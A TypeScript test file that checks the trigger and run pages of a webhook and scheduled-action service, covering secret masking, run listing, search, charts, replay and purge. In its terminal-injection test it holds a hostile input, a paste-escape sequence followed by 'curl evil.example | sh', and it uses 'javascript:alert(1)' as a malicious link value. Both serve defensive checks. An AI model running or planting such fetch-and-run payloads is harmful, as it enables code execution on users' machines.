import { describe, expect, it } from 'vitest'
import { CHART_RANGES, type TriggerSnapshot } from '../../../edge/queue/trigger-snapshot.ts'
import type { Outcome } from '../../../shared/wire/outcome.ts'
import { edge, fire, runOnce, script, slow, success } from '../app.ts'
import { failure } from './failure.ts'
import { hidden, type Page, Person, textOf } from './person.ts'

const person = await Person.signedIn()
const { owner } = person

const glance = async (path: string): Promise<TriggerSnapshot & { now: number }> =>
  JSON.parse((await person.get(path, { accept: 'application/json' })).text)

describe('the page of a trigger', async () => {
  const hook = await person.trigger({
    name: 'Greets',
    default_params: { secret: `it's`, colour: 'red' },
  })
  const plain = await person.trigger({ name: 'Plain' })

  it('shows the URL, and reveals the secret in the command only on demand', async () => {
    const { status, text } = await person.get(`/triggers/${hook.id}`)
    expect(status).toBe(200)
    const shown = textOf(text)
    expect(shown).toContain(hook.webhook_url)
    expect(shown).toContain(`curl -sS '${hook.webhook_url}'`)
    expect(shown).toContain(`SECRET='put the secret from default_params here'`)
    const [before] = shown.split('Show the command with the secret')
    expect(before).not.toContain("it's")
    expect(shown).toContain(String.raw`SECRET='it'\''s'`)
  })

  it('masks params with names of secrets, and shows the others', async () => {
    const shown = textOf((await person.get(`/triggers/${hook.id}`)).text)
    const [, params] = shown.split('Default params')
    expect(params!.split('Show secrets')[0]).toMatch(/"secret": "•+",\s+"colour": "red"/)
  })

  it('terminal injection: shows no command for a secret that could end the paste', async () => {
    for (const secret of ['\x1b[201~\ncurl evil.example | sh\n', 'a\u202eb', 'a\nb']) {
      const { id } = await person.trigger({ default_params: { secret } })
      const { text } = await person.get(`/triggers/${id}`)
      expect(text.includes(secret), secret).toBe(false)
      expect(text).not.toContain('id="curl-secret"')
      expect(textOf(text)).toContain('The secret contains invisible characters')
    }
  })

  it('never contains the usage key', async () => {
    const { text } = await person.get(`/triggers/${hook.id}`)
    expect(text).not.toContain('usage-key')
  })

  it('of an unsigned webhook has a command without a secret', async () => {
    const shown = textOf((await person.get(`/triggers/${plain.id}`)).text)
    expect(shown).not.toContain('SECRET=')
    expect(shown).toContain('No runs yet')
  })

  it('notes that a test is not signed if senders sign', async () => {
    const said = 'This event is not signed'
    expect(textOf((await person.get(`/triggers/${hook.id}`)).text)).toContain(said)
    expect(textOf((await person.get(`/triggers/${plain.id}`)).text)).not.toContain(said)
  })

  it('copies the URL and the command that works unchanged', async () => {
    const unseen = await person.trigger({ default_params: { secret: 'a\nb' } })
    const copied = async ({ id }: { id: string }) =>
      [...(await person.get(`/triggers/${id}`)).text.matchAll(/data-copy="([^"]+)"/g)].map(
        (of) => of[1],
      )
    expect(await copied(hook)).toEqual(['webhook-url', 'curl-secret'])
    expect(await copied(plain)).toEqual(['webhook-url', 'curl'])
    expect(await copied(unseen)).toEqual(['webhook-url', 'curl'])
  })

  it('shows a message after creation and after a purge, without text from the URL', async () => {
    const created = await person.get(`/triggers/${hook.id}?created=1`)
    expect(textOf(created.text)).toContain('Trigger created.')
    const forged = await person.get(`/triggers/${hook.id}?purged=all%20your%20money`)
    expect(forged.text).not.toContain('your money')
  })

  it('of a schedule lists its next ticks and accepts only params as a test', async () => {
    const { id } = await person.trigger({ kind: 'schedule', config: { cron: '0 9 * * *' } })
    const page = await person.get(`/triggers/${id}`)
    const shown = textOf(page.text)
    expect(shown.match(/09:00:00 UTC/g)!.length).toBeGreaterThanOrEqual(5)
    expect(hidden(page, 'what')).toBe('params')
  })

  it('explains that runs are waiting for credit, and what to do', async () => {
    const unpaid = { refuse: { status: 402, error: 'insufficient_credit' } }
    const { id } = await person.trigger({ action_code: script(unpaid) })
    const run = await fire(id)
    await runOnce(owner, run, ({ waiting_for }) => waiting_for === 'payment')
    const shown = textOf((await person.get(`/triggers/${id}`)).text)
    expect(shown).toContain(
      'Waiting for credits. The account of its usage key has no credits left.',
    )
    expect(textOf((await person.get(`/runs/${run}`)).text)).toContain('Waiting for credits.')
  })

  it('redirects a signed-out user to sign in, and back afterwards', async () => {
    const answer = await edge(`/triggers/${hook.id}?status=failed`, { redirect: 'manual' })
    expect(answer.status).toBe(303)
    expect(answer.headers.get('location')).toBe(
      `/sign-in?next=${encodeURIComponent(`/triggers/${hook.id}?status=failed`)}`,
    )
  })
})

describe('the list of runs', async () => {
  const { id } = await person.trigger({
    action_code: script(failure(), {
      outcome: { ...failure().outcome, status: 'success', response: { n: 1 } } as Outcome,
    }),
    max_runs_per_minute: 600,
  })
  const runs: string[] = []
  for (let i = 0; i < 27; i++) runs.push(await fire(id, `${i}`))
  for (const run of runs) await runOnce(owner, run)
  const shownRuns = ({ text }: Page) =>
    [...text.split('id="runs"')[1]!.matchAll(/href="\/runs\/([^"]+)"/g)].map(([, run]) => run)

  it('shows the newest first, with the start of each result, and links to older ones', async () => {
    const page = await person.get(`/triggers/${id}`)
    expect(shownRuns(page)).toEqual(runs.toReversed().slice(0, 25))
    expect(textOf(page.text)).toMatch(/Error: no such bird|\{"n":1\}/)
    const older = /href="([^"]*cursor=[^"]*)"/.exec(page.text)![1]!.replaceAll('&amp;', '&')
    expect(shownRuns(await person.get(older))).toEqual(runs.slice(0, 2).toReversed())
  })

  it('shows the start of a result that is too large to parse, just like a small one', async () => {
    for (const small of ['"quoted" ', { n: ['é', '\u0001'] }])
      for (const response of [small, [small, 'x'.repeat(70_000)]]) {
        const outcome = { ...failure().outcome, status: 'success', response } as Outcome
        const other = await person.trigger({ action_code: script({ outcome }) })
        await runOnce(owner, await fire(other.id))
        const { lines } = await glance(`/triggers/${other.id}/runs.json`)
        expect(lines[0]!.text).toBe(JSON.stringify(response).slice(0, 300))
      }
  })

  it('shows the last failure above the list, and whether a run has succeeded since', async () => {
    const other = await person.trigger({ action_code: script(failure()) })
    const shown = async () =>
      (await person.get(`/triggers/${other.id}`)).text.split('id="numbers"')[0]!
    expect(textOf(await shown())).toContain('No failed runs')
    const failed = await fire(other.id)
    await runOnce(owner, failed)
    expect(textOf(await shown())).toMatch(/Last run failed .*: Error: /)
    const body = JSON.stringify({ action_code: script(success()) })
    const headers = { 'content-type': 'application/json' }
    const path = `/api/triggers/${other.id}`
    expect((await owner.api(path, { method: 'PATCH', headers, body })).status).toBe(200)
    await runOnce(owner, await fire(other.id))
    expect(textOf(await shown())).toMatch(/Last failure .*: Error: /)
    expect(await shown()).toContain(`href="/runs/${failed}"`)
  })

  it('shows only runs of one status', async () => {
    const all = await glance(`/triggers/${id}/runs.json`)
    expect(all.lines).toHaveLength(25)
    const failed = await glance(`/triggers/${id}/runs.json?status=failed`)
    expect(failed.lines.every(({ status }) => status === 'failed')).toBe(true)
    const { text } = await person.get(`/triggers/${id}?status=queued`)
    expect(textOf(text)).toContain('No runs with this status.')
  })

  it('searches, shows the search again, and names what is not valid in it', async () => {
    const other = await person.trigger()
    const run = await fire(other.id, '{"customer":42}')
    await fire(other.id, '{"customer":43}')
    const page = await person.get(`/triggers/${other.id}?param=event.customer%3D42`)
    expect(shownRuns(page)).toEqual([run])
    expect(page.text).toContain('value="event.customer=42"')
    const none = await person.get(`/triggers/${other.id}?error=timeout`)
    expect(textOf(none.text)).toContain('No runs match.')
    const wrong = await person.get(`/triggers/${other.id}?header=nothing`)
    expect(textOf(wrong.text)).toContain('expected name:value, such as x-github-event:push')
    expect(shownRuns(wrong)).toHaveLength(2)
  })

  it.each(['status=%3Cb%3E', 'cursor=AAAA', 'range=century', 'limit=100000'])(
    'ignores an invalid query: %s',
    async (query) => {
      const page = await person.get(`/triggers/${id}?${query}`)
      expect(page.status).toBe(200)
      expect(shownRuns(page)).toHaveLength(25)
    },
  )

  it('has a chart of finished runs for every range, only on request', async () => {
    expect((await glance(`/triggers/${id}/runs.json`)).chart).toBeNull()
    for (const range of Object.keys(CHART_RANGES) as (keyof typeof CHART_RANGES)[]) {
      const { chart } = await glance(`/triggers/${id}/runs.json?range=${range}`)
      expect(chart!.buckets).toHaveLength(CHART_RANGES[range].buckets)
      const ended = chart!.buckets.reduce((sum, { ok, failed }) => sum + ok + failed, 0)
      expect(ended).toBe(27)
      expect(chart!.buckets.at(-1)!.p50Ms ?? chart!.buckets.at(-2)!.p50Ms).not.toBeNull()
    }
  })

  it('includes a run that finished after the chart was first drawn', async () => {
    await runOnce(owner, await fire(id))
    const { chart } = await glance(`/triggers/${id}/runs.json?range=30d`)
    expect(chart!.buckets.reduce((sum, { ok, failed }) => sum + ok + failed, 0)).toBe(28)
  })
})

describe('the page of a run', async () => {
  const { id } = await person.trigger({
    action_code: script(
      failure({ logs: [{ level: 'warn', at_ms: 12, text: 'looking\nfor a bird' }] }),
    ),
  })
  const run = await fire(id, '{"bird":"wren"}', { headers: { 'content-type': 'application/json' } })
  await runOnce(owner, run)

  it('shows the error with stack, logs with level and time, timeline, input and cost', async () => {
    const { status, text } = await person.get(`/runs/${run}`)
    expect(status).toBe(200)
    const shown = textOf(text)
    expect(shown).toContain('Error: no such bird\n    at main (action.js:3:9)')
    expect(shown).toMatch(/12 ms warn looking\nfor a bird/)
    expect(shown).toContain('"bird": "wren"')
    expect(shown).toContain('Nothing was charged.')
    expect(shown).toMatch(/Queued.*Started.*Failed/)
  })

  it('lists the transactions of the receipt, with links to an explorer', async () => {
    const sent = {
      id: `tx_${'0a'.repeat(16)}`,
      wallet: `0x${'1b'.repeat(20)}`,
      chain_id: 8_453,
      state: 'broadcast',
      hash: `0x${'2c'.repeat(32)}`,
    }
    const pageWith = async (transactions: unknown) => {
      const claims = btoa(JSON.stringify({ transactions })).replace(/=+$/, '')
      const action_code = script(failure({ receipt: `e30.${claims}.` }))
      const { id: sends } = await person.trigger({ action_code })
      const sending = await fire(sends)
      await runOnce(owner, sending)
      const { text } = await person.get(`/runs/${sending}`)
      return /id="transactions-title">.*?<\/section>/s.exec(text)?.[0]
    }
    const shown = await pageWith([sent])
    expect(textOf(shown!)).toMatch(/tx_(0a){16}.*Broadcast.*8453/)
    expect(shown).toContain(
      `<a href="https://basescan.org/tx/${sent.hash}" target="_blank" rel="noopener noreferrer">`,
    )
    expect(await pageWith([{ ...sent, hash: 'javascript:alert(1)' }])).toBeUndefined()
    expect(await pageWith(undefined)).toBeUndefined()
  })

  it('replays the run with one click, and links the new run to it', async () => {
    const page = await person.get(`/runs/${run}`)
    const csrf = hidden(page, 'csrf', `/runs/${run}/replay`)
    const { status, response } = await person.post(`/runs/${run}/replay`, {
      csrf,
      code: 'original',
    })
    expect(status).toBe(303)
    const location = response.headers.get('location')!
    expect((await person.get(location)).text).toContain(`href="/runs/${run}"`)
  })

  it('returns the state of the run as soon as it finishes, by long polling', async () => {
    const { id: late } = await person.trigger({ action_code: script(slow(300)) })
    const waited = await fire(late)
    const { text } = await person.get(`/runs/${waited}/state.json?wait=10`)
    expect(JSON.parse(text)).toMatchObject({
      run: { status: 'success', response: { text: '"slow"' } },
    })
  })

  it('cancels a queued run, and not a finished one', async () => {
    const { id: full } = await person.trigger({ max_runs_per_minute: 1 })
    await runOnce(owner, await fire(full))
    const queued = await fire(full)
    const csrf = hidden(await person.get(`/runs/${queued}`), 'csrf', `/runs/${queued}/cancel`)
    const path = `/runs/${queued}/cancel`
    expect((await person.post(path, { csrf })).response.headers.get('location')).toBe(
      `/runs/${queued}`,
    )
    expect(textOf((await person.get(`/runs/${queued}`)).text)).toContain('Failed')
    expect((await person.post(path, { csrf })).status).toBe(409)
  })
})

describe('actions on the page of a trigger', () => {
  it('a test with an event or params redirects to its run', async () => {
    const { id } = await person.trigger()
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
    for (const what of ['event', 'params']) {
      const { status, response } = await person.post(`/triggers/${id}/test`, {
        csrf,
        what,
        json: '{"a":1}',
      })
      expect(status).toBe(303)
      const page = await person.get(response.headers.get('location')!)
      expect(page.text).toContain('<h1>Test run</h1>')
    }
  })

  it.each([
    ['{"a":', 'Invalid JSON.'],
    ['[]', 'params'],
    [`${'['.repeat(600)}${']'.repeat(600)}`, 'params'],
  ])('an invalid test %# is shown again with the error', async (json, problem) => {
    const { id } = await person.trigger()
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
    const page = await person.post(`/triggers/${id}/test`, { csrf, what: 'params', json })
    expect(page.status).toBe(422)
    const alert = /role="alert">([^<]*)</.exec(page.text)![1]
    expect(alert).toContain(problem)
    expect(textOf(page.text)).toContain(json)
  })

  it('a test of a paused trigger reports that it is paused', async () => {
    const { id } = await person.trigger()
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
    await owner.api(`/api/triggers/${id}`, {
      method: 'PATCH',
      body: '{"enabled":false}',
      headers: { 'content-type': 'application/json' },
    })
    const page = await person.post(`/triggers/${id}/test`, { csrf, what: 'event', json: '1' })
    expect(page.status).toBe(409)
    expect(textOf(page.text)).toContain('The trigger is paused')
  })

  it('a purge cancels queued runs and shows their number', async () => {
    const { id } = await person.trigger({ max_runs_per_minute: 1 })
    await runOnce(owner, await fire(id))
    await fire(id)
    await fire(id)
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/purge`)
    const { response } = await person.post(`/triggers/${id}/purge`, { csrf })
    const location = response.headers.get('location')!
    expect(textOf((await person.get(location)).text)).toContain('2 queued runs cancelled.')
  })
})
